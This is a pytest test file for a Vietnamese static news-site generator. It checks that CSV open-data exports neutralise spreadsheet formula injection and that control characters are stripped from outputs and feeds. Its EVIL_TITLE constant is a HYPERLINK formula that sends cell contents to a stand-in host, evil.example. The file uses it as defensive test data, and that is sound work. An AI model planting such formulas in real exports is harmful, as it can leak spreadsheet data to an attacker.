"""Hardening (issue 14): open data safe in spreadsheets, no control character in any
output, byte-identical builds, a preview that is never stale, photo completeness,
Pagefind fail-soft, vocabulary integrity."""

from __future__ import annotations

import csv
import io

from conftest import article

EVIL_TITLE = '=HYPERLINK("http://evil.example/?"&A1,"Bấm")'


def _csv(site, name: str) -> list[list[str]]:
    raw = (site.site / f"du-lieu/{name}").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(raw[3:].decode("utf-8"), newline="")))


# 1. Open data safe in spreadsheets ------------------------------------------------------

def test_csv_cells_that_start_a_formula_are_neutralised_json_keeps_them(build_site):
    title = EVIL_TITLE.replace('"', '\\"')
    site = build_site({"articles/a.md": article(
        title=f'"{title}"', date="10/12/2020", category="Khen thưởng",
        awards="""
        - award: Bằng khen
          issuer: Bộ Công an
          recipient_type: tập thể
          count: 2
          for: "=1+1"
          recipients: ["+Tổ 1", "Tổ 2"]
        - award: Giấy khen
          issuer: Bộ Công an
          recipient_type: cá nhân
          count: 1
          for: "-2+3"
        """,
        stats="""
        - metric: Khu dân cư văn hóa
          value: 12
          change: -11,9
          area: "@Tổ 5"
        """)})
    awards = _csv(site, "khen-thuong.csv")
    head = awards[0]
    first = dict(zip(head, awards[1]))
    assert first["title"] == "'" + EVIL_TITLE
    assert first["for"] == "'=1+1"
    assert first["recipients"] == "'+Tổ 1; Tổ 2"
    assert first["count"] == "2" and first["year"] == "2020"
    assert dict(zip(head, awards[2]))["for"] == "'-2+3"
    stats = _csv(site, "thong-ke.csv")
    rows = [dict(zip(stats[0], row)) for row in stats[1:]]
    assert [r["area"] for r in rows] == ["'@Tổ 5"]
    assert rows[0]["change"] == "-11.9" and rows[0]["value"] == "12"  # numbers stay numbers
    # JSON keeps the exact strings.
    records = site.json("du-lieu/khen-thuong.json")
    assert records[0]["title"] == EVIL_TITLE and records[0]["for"] == "=1+1"
    assert records[0]["recipients"] == ["+Tổ 1", "Tổ 2"]
    assert [r["area"] for r in site.json("du-lieu/thong-ke.json")] == ["@Tổ 5"]
    assert site.json("du-lieu/bai-viet.json")[0]["title"] == EVIL_TITLE


def test_csv_rule_covers_tab_and_carriage_return_and_leaves_numbers_alone():
    from bantin.opendata import to_csv

    records = [{"a": "\tx", "b": "\ry", "c": -3, "d": -0.5, "e": "a=b", "f": ["-x", "y"], "g": True}]
    rows = list(csv.reader(io.StringIO(to_csv(records)[3:].decode("utf-8"), newline="")))
    assert rows[1] == ["'\tx", "'\ry", "-3", "-0.5", "a=b", "'-x; y", "true"]


# 2. No control character in any output ---------------------------------------------------

def _control_free(site_dir) -> None:
    from bantin.controls import CONTROLS

    checked = 0
    for path in site_dir.rglob("*"):
        if path.suffix in (".html", ".xml", ".json", ".csv", ".txt"):  # not vendored JS
            text = path.read_text(encoding="utf-8-sig")
            if path.suffix == ".csv":
                text = text.replace("\r\n", "\n")
            assert not CONTROLS.search(text), (path, CONTROLS.findall(text))
            checked += 1
    assert checked > 20


def _feeds_parse(site_dir) -> int:
    import xml.etree.ElementTree as ET

    feeds = sorted(site_dir.rglob("*.xml"))
    for path in feeds:
        ET.parse(path)  # raises on a control character (not well-formed)
    return len(feeds)


def test_control_characters_are_removed_on_reading_with_a_warning(build_site):
    body = "Đoạn đầu\x0b có\x1f ký tự\x7f lạ\x85.\n\nĐoạn hai.\n"
    site = build_site({
        "articles/a.md": article(title='"Tin \\x01 thử\\b nghiệm"', body=body,
                                 tags='["An ninh\\x08"]'),
        "articles/b.md": article(title="Bài hai", date="19/08/2022", summary='"Tóm\\x1b tắt"',
                                 photos='- file: a.jpg\n  caption: "Ảnh\\x0c đẹp"'),
        "photos/a.jpg": __import__("conftest").jpeg(),
    })
    notes = [m for m in site.messages() if m.startswith("cảnh báo")]
    assert any(m.startswith("cảnh báo: articles/a.md:2 title:") and "U+0001, U+0008" in m for m in notes), notes
    assert any(m.startswith("cảnh báo: articles/a.md:7 (tệp):") and "U+000B, U+001F, U+007F, U+0085" in m
               for m in notes), notes
    assert any(m.startswith("cảnh báo: articles/a.md:5 tags[0]:") for m in notes), notes
    assert any(m.startswith("cảnh báo: articles/b.md:") and "photos[0].caption" in m for m in notes), notes
    assert any("summary" in m and "U+001B" in m for m in notes), notes
    page = site.html("/bai-viet/2022/tin-thu-nghiem/")
    assert "Tin  thử nghiệm" in page and "Đoạn đầu có ký tự lạ." in page
    entry = site.site.joinpath("feed.xml").read_text(encoding="utf-8")
    assert "<summary type=\"text\">Đoạn đầu có ký tự lạ.</summary>" in entry
    assert _feeds_parse(site.site) >= 3  # feed.xml, category feeds, sitemap.xml
    _control_free(site.site)
